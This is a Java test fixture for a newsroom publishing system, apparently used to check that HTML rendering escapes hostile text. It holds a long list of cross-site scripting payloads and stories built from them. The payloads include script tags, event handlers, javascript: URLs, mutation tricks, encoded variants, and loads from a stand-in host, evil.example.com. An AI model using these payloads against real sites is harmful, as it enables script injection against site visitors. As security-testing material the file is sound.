package newsroom.publish.rendition.html;

import java.net.URI;
import java.util.List;
import newsroom.publish.rendition.Fiction;
import newsroom.publish.rendition.Page;
import newsroom.publish.story.Block;
import newsroom.publish.story.Concept;
import newsroom.publish.story.Mark;
import newsroom.publish.story.Picture;
import newsroom.publish.story.Story;

/// A story that would run something on every page that prints it carelessly.
public final class HostileStory {

  private HostileStory() {}

  /// Texts that would run or fetch something where they are printed carelessly.
  public static List<String> corpus() {
    return List.of(
        "<script>alert(1)</script>",
        "</script><script>alert(1)</script>",
        "<!--<script>",
        "<img src=x onerror=alert(1)>",
        "\"><svg/onload=alert(1)>",
        "' onmouseover='alert(1)",
        "\" autofocus onfocus=\"alert(1)",
        "` onclick=alert(1) `",
        "javascript:alert(1)",
        "JaVaScRiPt&colon;alert(1)",
        "java\tscript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href='&#106;avascript:alert(1)'>x</a>",
        "<a href=\" java\nscript:alert(1)\">x</a>",
        "<a href=https://a.example.com onclick=alert(1)>x</a>",
        "<b onmouseover=alert(1)>x</b>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data=javascript:alert(1)>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<svg><animate onbegin=alert(1) attributeName=x>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "</title><script>alert(1)</script>",
        "</style><script>alert(1)</script>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<base href=https://evil.example.com/>",
        "<form action=javascript:alert(1)><button>x",
        "<em><script>alert(1)</script></em>",
        "<em></b></em></article></main>",
        "]]><script>alert(1)</script>",
        "<scr\u0000ipt>alert(1)</script>",
        "\u2028<script>alert(1)</script>\u2029",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        // what a parser makes of a text is another text: mutation
        "<svg><p><style><img src=1 href=1 onerror=alert(1)></style></p></svg>",
        "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
        "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style>",
        "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=alert(1)>\">",
        "<a title=\"<!--\"><img alt=\"--><img src=x onerror=alert(1)>\">",
        "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
        "<textarea><a title=\"</textarea><img src=x onerror=alert(1)>\">",
        "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
        "<table><caption><svg><desc></table><img src=x onerror=alert(1)>",
        "<b><svg><![CDATA[</b><img src=x onerror=alert(1)>]]></svg>",
        "<em title='a&quot;onmouseover=alert(1) b'>x</em>",
        "<a href=\"https://a.example.com/&quot; onmouseover=alert(1) x=&quot;\">x</a>",
        "<a href=\"https://a.example.com/\" style=\"position:fixed;inset:0\" onclick=alert(1)>x</a>",
        // breaking out of where it is printed
        "\" onload=\"alert(1)",
        "' onerror='alert(1)",
        "\">\"<img src=x onerror=alert(1)>",
        "'-alert(1)-'",
        "\\\"-alert(1)}//",
        "</script ><script>alert(1)</script >",
        "</SCRIPT><svg onload=alert(1)>",
        "<!--<script><script>alert(1)</script>-->",
        "{\"a\":\"</script><script>alert(1)</script>\"}",
        "\\u003c/script\\u003e<script>alert(1)</script>",
        "]]>]]&gt;<![CDATA[<script>alert(1)</script>]]>",
        "--><script>alert(1)</script><!--",
        "*/alert(1)/*",
        "</textarea><script>alert(1)</script>",
        "</noscript><script>alert(1)</script>",
        "</template><script>alert(1)</script>",
        "</a><script>alert(1)</script>",
        "</h1></header></article><iframe src=javascript:alert(1)>",
        // addresses
        " javascript:alert(1)",
        "\u0001javascript:alert(1)",
        "javascript&#58;alert(1)",
        "javascript&#x3A;alert(1)",
        "&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116:alert(1)",
        "jav&#x09;ascript:alert(1)",
        "jav&#x0A;ascript:alert(1)",
        "JAVASCRIPT://%0aalert(1)",
        "javascript://x.example.com/%0aalert(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "blob:https://a.example.com/x",
        "filesystem:https://a.example.com/x",
        "view-source:javascript:alert(1)",
        "//evil.example.com/x.js",
        "/\\evil.example.com/x.js",
        "https:evil.example.com",
        "https://a.example.com/\"onmouseover=\"alert(1)",
        "https://a.example.com/'><script>alert(1)</script>",
        "https://user:pass@a.example.com/<svg onload=alert(1)>",
        "feed:javascript:alert(1)",
        // things that fetch
        "<link rel=stylesheet href=//evil.example.com/a.css>",
        "<img src=//evil.example.com/a.gif>",
        "<video poster=//evil.example.com/a.gif><source src=//evil.example.com/a.mp4></video>",
        "<audio src=//evil.example.com/a.mp3 autoplay>",
        "<style>@import '//evil.example.com/a.css'</style>",
        "<b style=\"background:url(//evil.example.com/a.gif)\">x</b>",
        "<input type=image src=//evil.example.com/a.gif>",
        "<embed src=//evil.example.com/a.swf>",
        "<object data=//evil.example.com/a>",
        "<body background=//evil.example.com/a.gif>",
        "<img srcset=\"//evil.example.com/a.gif 1x\">",
        "<picture><source srcset=//evil.example.com/a.gif><img></picture>",
        "<svg><image href=//evil.example.com/a.gif></svg>",
        "<svg><use href=//evil.example.com/a.svg#x></svg>",
        "<script src=//evil.example.com/a.js></script>",
        "<iframe src=//evil.example.com/></iframe>",
        "<portal src=//evil.example.com/></portal>",
        "<a ping=//evil.example.com/ href=https://a.example.com/>x</a>",
        "<meta http-equiv=refresh content='0;url=//evil.example.com/'>",
        "<link rel=prefetch href=//evil.example.com/>",
        "<link rel=dns-prefetch href=//evil.example.com/>",
        "<table background=//evil.example.com/a.gif>",
        // things that run
        "<details open ontoggle=alert(1)>",
        "<marquee onstart=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<select autofocus onfocus=alert(1)>",
        "<keygen autofocus onfocus=alert(1)>",
        "<body onload=alert(1)>",
        "<body onpageshow=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><script href=data:,alert(1) />",
        "<svg><set onbegin=alert(1)>",
        "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
        "<img src=x:x onerror=alert(1)>",
        "<img/src=x/onerror=alert(1)>",
        "<img src=`x`onerror=alert(1)>",
        "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
        "<<SCRIPT>alert(1);//<</SCRIPT>",
        "<SCRIPT/XSS SRC=data:,alert(1)></SCRIPT>",
        "<sc<script>ript>alert(1)</sc</script>ript>",
        "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
        "<embed src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
        "<iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>",
        "<isindex action=javascript:alert(1) type=image>",
        "<button onclick=alert(1)>x</button>",
        "<b onpointerenter=alert(1) tabindex=0>x</b>",
        "<b onanimationstart=alert(1) style=animation:x>x</b>",
        "<custom-x onfocus=alert(1) tabindex=0 autofocus>",
        "<dialog open onclose=alert(1)><form method=dialog><button>x",
        "<img src=x onerror=&#x61;&#x6C;&#x65;&#x72;&#x74;(1)>",
        "<img src=x onerror=\"\\u0061lert(1)\">",
        "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>",
        "\u202E<script>alert(1)</script>",
        "\uFEFF<script>alert(1)</script>",
        "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "<\u0000script>alert(1)</script>",
        "<script\u000C>alert(1)</script>",
        "<img\u000Bsrc=x\u000Bonerror=alert(1)>",
        "x\uD800<script>alert(1)</script>\uDC00",
        "${7*7} $unsafe{x} {{7*7}}");
  }

  /// A story with this text in every field.
  public static Page page(String x, int number) {
    Picture picture =
        new Picture(
            x,
            x,
            x,
            x,
            List.of(
                new Picture.Rendition(x, x, null, 800, 450),
                new Picture.Rendition(x, "https://p.example.com/" + x, x, 400, 225),
                new Picture.Rendition("w", "https://p.example.com/w.jpg", null, 900, 500)));
    Story story =
        new Story(
            "urn:newsroom:story:%032x".formatted(number),
            new Mark(1, Fiction.POSTED, 0),
            new Story.Lifecycle(
                Story.Status.USABLE, Story.Change.CORRECTION, null, null, null, 1, x, x),
            new Story.Headlines(x, x, x, x, x, x, x),
            new Story.Subjects(
                new Concept(x, x, x),
                List.of(new Concept(x, x, x)),
                List.of(),
                List.of(),
                List.of(),
                List.of(x)),
            new Story.Rights(x, x, x, x),
            List.of(picture),
            x,
            blocks(x),
            List.of(),
            new Story.Origin(x, x, Fiction.POSTED, Story.Filing.DATED));
    return new Page(
        story,
        URI.create("https://news.example.com/world/hostile-" + number + "/"),
        Fiction.WORLD,
        Fiction.POSTED.plusSeconds(number),
        Fiction.POSTED.plusSeconds(number + 60L),
        List.of(new Page.Promo(x, x, URI.create("https://news.example.com/world/other"), 0)));
  }

  private static List<Block> blocks(String x) {
    return List.of(
        new Block.Paragraph(x),
        new Block.Paragraph("before <em>" + x + "</em> after"),
        new Block.Heading(2, x),
        new Block.Quote(List.of(x), x),
        new Block.Listing(true, List.of(x)),
        new Block.Listing(false, List.of(x)),
        new Block.Table(x, true, List.of(List.of(x), List.of(x))),
        new Block.Figure(x),
        new Block.Embed(x, x),
        new Block.Embed("https://v.example.com/" + x, x),
        new Block.Promo(x, x, x));
  }
}
